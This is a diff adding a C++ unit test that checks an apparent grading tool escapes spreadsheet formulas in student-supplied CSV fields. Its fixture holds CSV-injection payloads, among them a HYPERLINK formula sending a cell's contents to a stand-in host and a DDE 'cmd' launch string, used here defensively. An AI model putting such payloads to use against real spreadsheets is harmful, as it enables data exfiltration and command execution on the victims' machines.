@@ -6,6 +6,7 @@
 #include <fstream>
 
 #include "cmd/batch_input.h"
+#include "util.h"
 
 namespace rt::grader {
 namespace {
@@ -117,6 +118,61 @@ TEST(GradescopeExport, MistakesNameTheFileAndTheSubmission) {
                 << e.what();
         }
     }
+}
+
+// The cells of one CSV line (quoted cells with doubled quotes, as csv_cell writes them).
+std::vector<std::string> csv_cells(const std::string& line) {
+    std::vector<std::string> cells(1);
+    bool quoted = false;
+    for (std::size_t i = 0; i < line.size(); ++i) {
+        const char c = line[i];
+        if (c == '"' && quoted && i + 1 < line.size() && line[i + 1] == '"')
+            cells.back() += line[++i];
+        else if (c == '"')
+            quoted = !quoted;
+        else if (c == ',' && !quoted)
+            cells.emplace_back();
+        else
+            cells.back() += c;
+    }
+    return cells;
+}
+
+// Students choose their names, ids and e-mails. A cell a spreadsheet would run as a formula
+// (OWASP: a first character of = + - @, tab or carriage return) must never reach scores.csv or
+// changes.csv: each such cell starts with ' and is text. No spreadsheet is opened; every cell is
+// read back and checked.
+TEST(GradescopeExport, NoCellAStudentWritesIsAFormula) {
+    const std::string metadata = R"(submission_1:
+  :submitters:
+  - :name: '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+    :sid: '@SUM(1+1)*cmd|'' /C calc''!A0'
+    :email: '-2+3@example.com'
+  :created_at: 2026-12-01 09:30:00.000000000 -0800
+  :score: 1.0
+submission_2:
+  :submitters:
+  - :name: "+1-555-0100"
+    :sid: "\t=1+1"
+    :email: "\r=1+1@example.com"
+  :created_at: 2026-12-01 09:31:00.000000000 -0800
+  :score: 2.0
+)";
+    const BatchInput in = batch_input(make_export(metadata), false);
+    ASSERT_EQ(in.entries.size(), 2u);
+    int checked = 0;
+    for (const BatchEntry& e : in.entries)
+        for (const std::string& line : {export_identity(e), export_change(e, 3)})
+            for (const std::string& cell : csv_cells(line)) {
+                ++checked;
+                if (cell.empty()) continue;
+                EXPECT_EQ(std::string("=+-@\t\r").find(cell[0]), std::string::npos)
+                    << "a formula cell: " << cell << " in " << line;
+            }
+    EXPECT_GE(checked, 12);
+    EXPECT_EQ(csv_cell("=1+1"), "\"'=1+1\"");
+    EXPECT_EQ(csv_cell("Ada \"the\" Byron"), "\"Ada \"\"the\"\" Byron\"");
+    EXPECT_EQ(csv_cell("-2.5"), "\"'-2.5\"") << "a student's text, even a number, is text";
 }
 
 }  // namespace
